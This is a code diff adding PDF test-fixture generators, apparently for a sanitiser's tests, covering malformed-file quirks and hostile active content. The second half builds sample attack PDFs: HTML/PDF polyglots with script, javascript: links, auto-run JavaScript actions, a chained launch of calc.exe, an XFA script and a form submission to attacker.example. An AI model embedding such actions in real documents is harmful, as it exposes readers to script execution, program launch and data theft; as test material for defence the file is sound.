@@ -19,6 +19,7 @@ from pypdf.generic import (
     DictionaryObject,
     NameObject,
     NumberObject,
+    StreamObject,
     TextStringObject,
 )
 
@@ -191,3 +192,175 @@ def padded(data: bytes, total: int) -> bytes:
     line = b"%" + b"x" * 78 + b"\n"
     missing = max(0, total - len(data) - 7)
     return data + line * (missing // len(line) + 1) + b"%%EOF\n"
+
+
+# --- real-world defects that PDF readers repair (issue 9, part 3) ----------------------------------------------------
+def update_xref_not_zero_indexed(data: bytes) -> bytes:
+    """An incremental update (as editors and signing tools append) whose xref section starts at the object it
+    rewrites, not at 0 — valid PDF; pypdf in strict mode logs "Xref table not zero-indexed" about it."""
+    root = int(re.findall(rb"/Root (\d+) 0 R", data)[-1])
+    body = re.search(rb"\n%d 0 obj\s*(<<.*?>>)\s*endobj" % root, data, re.S)
+    assert body is not None
+    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
+    size = int(re.findall(rb"/Size (\d+)", data)[-1])
+    start = len(data)
+    obj = b"%d 0 obj\n" % root + body.group(1) + b"\nendobj\n"
+    return (
+        data
+        + obj
+        + b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
+        % (root, start, size, root, prev, start + len(obj))
+    )
+
+
+def xref_without_free_entry(data: bytes) -> bytes:
+    """The xref table starts at object 1, leaving out the free entry 0 (as some generators write it)."""
+    out, n = re.subn(
+        rb"xref\n0 (\d+)\n0000000000 65535 f\s?\n", lambda m: b"xref\n1 %d\n" % (int(m.group(1)) - 1), data
+    )
+    assert n == 1, "no classic xref table"
+    return out
+
+
+def trailing_nuls(data: bytes, count: int = 4096) -> bytes:
+    return data + b"\0" * count
+
+
+def trailing_junk(data: bytes, count: int = 1800) -> bytes:
+    """`count` bytes after %%EOF, as some mail gateways and scanners leave (a signature block, padding)."""
+    line = b"-- trailer left by a mail gateway --\n"
+    return data + (line * (count // len(line) + 1))[:count]
+
+
+def junk_before_header(data: bytes, count: int = 1000) -> bytes:
+    """`count` bytes before %PDF- (readers look for the header within the first 1024 bytes)."""
+    return b"\x00MIME-Version: 1.0\r\n" + b"x" * (count - 21) + b"\n" + data
+
+
+def html_after(data: bytes) -> bytes:
+    """A PDF followed by an HTML page: a polyglot that a browser sniffing the content might render."""
+    return data + b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>\n"
+
+
+def html_before(data: bytes) -> bytes:
+    """An HTML page, then a PDF starting within the first 1024 bytes (readers still open it)."""
+    return b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>\n" + data
+
+
+def crlf_mangled(data: bytes) -> bytes:
+    """A binary PDF sent in text mode: every LF became CRLF, inside compressed streams too."""
+    return data.replace(b"\n", b"\r\n")
+
+
+def broken_metadata(data: bytes) -> bytes:
+    """An XMP metadata stream that claims Flate compression but holds bytes that do not inflate."""
+
+    def edit(w: PdfWriter) -> None:
+        meta = StreamObject()
+        meta._data = b"\x78\x9c this is not deflate data \xff\x00\xfe" * 20
+        meta[NameObject("/Type")] = NameObject("/Metadata")
+        meta[NameObject("/Subtype")] = NameObject("/XML")
+        meta[NameObject("/Filter")] = NameObject("/FlateDecode")
+        w._root_object[NameObject("/Metadata")] = w._add_object(meta)
+
+    return _with(data, edit)
+
+
+# --- more active content -----------------------------------------------------------------------------------------
+def _link(w: PdfWriter, action: DictionaryObject, key: str = "/A") -> None:
+    annot = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
+        }
+    )
+    annot[NameObject(key)] = action if key == "/A" else DictionaryObject({NameObject("/U"): action})
+    annots = w.pages[0].get("/Annots")
+    existing = list(annots) if isinstance(annots, ArrayObject) else []
+    w.pages[0][NameObject("/Annots")] = ArrayObject([*existing, w._add_object(annot)])
+
+
+def _action(kind: str, **entries: object) -> DictionaryObject:
+    d = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for k, v in entries.items():
+        d[NameObject(f"/{k}")] = v  # type: ignore[assignment]
+    return d
+
+
+def uri_javascript(data: bytes) -> bytes:
+    """A link whose URI action is a javascript: address (and a harmless https link beside it, which stays)."""
+
+    def edit(w: PdfWriter) -> None:
+        _link(w, _action("/URI", URI=TextStringObject("https://hdnd.example.gov.vn/")))
+        _link(w, _action("/URI", URI=TextStringObject("  JavaScript:app.alert(1)")))
+
+    return _with(data, edit)
+
+
+def page_additional_actions(data: bytes) -> bytes:
+    """JavaScript run when page 1 opens (/AA /O on the page) and when the mouse enters a link (/AA /E)."""
+
+    def edit(w: PdfWriter) -> None:
+        js = _action("/JavaScript", JS=TextStringObject("app.alert('page');"))
+        w.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): w._add_object(js)})
+        _link(w, _action("/JavaScript", JS=TextStringObject("app.alert('link');")), key="/AA")
+
+    return _with(data, edit)
+
+
+def chained_launch(data: bytes) -> bytes:
+    """A harmless GoTo open action whose /Next launches a program: the whole chain is removed."""
+
+    def edit(w: PdfWriter) -> None:
+        launch = _action("/Launch", F=TextStringObject("calc.exe"))
+        goto = _action("/GoTo", D=ArrayObject([w.pages[0].indirect_reference, NameObject("/Fit")]))
+        goto[NameObject("/Next")] = w._add_object(launch)
+        w._root_object[NameObject("/OpenAction")] = w._add_object(goto)
+
+    return _with(data, edit)
+
+
+def xfa_form(data: bytes) -> bytes:
+    def edit(w: PdfWriter) -> None:
+        xfa = DecodedStreamObject()
+        xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>xfa.host.messageBox(1)</script></xdp:xdp>")
+        w._root_object[NameObject("/AcroForm")] = DictionaryObject(
+            {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): w._add_object(xfa)}
+        )
+
+    return _with(data, edit)
+
+
+def rich_media(data: bytes, subtype: str = "/RichMedia") -> bytes:
+    """A RichMedia annotation (Flash/video with scripts) on page 1, or another multimedia `subtype` (/3D…)."""
+
+    def edit(w: PdfWriter) -> None:
+        annot = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject(subtype),
+                NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(9), NumberObject(9)]),
+            }
+        )
+        w.pages[0][NameObject("/Annots")] = ArrayObject([w._add_object(annot)])
+
+    return _with(data, edit)
+
+
+def submit_form(data: bytes) -> bytes:
+    def edit(w: PdfWriter) -> None:
+        _link(w, _action("/SubmitForm", F=TextStringObject("https://attacker.example/collect")))
+
+    return _with(data, edit)
+
+
+def many_pages(pages: int = 100) -> bytes:
+    """A text document of `pages` pages (the size of a typical report, for timing)."""
+    paragraph = " ".join(VIETNAMESE) * 6
+    body: list[str] = []
+    for n in range(pages):
+        if n:
+            body.append("\f")
+        body.extend([f"Trang {n + 1}.", paragraph, paragraph])
+    return good_pdf("Báo cáo kinh tế - xã hội năm 2026", body)
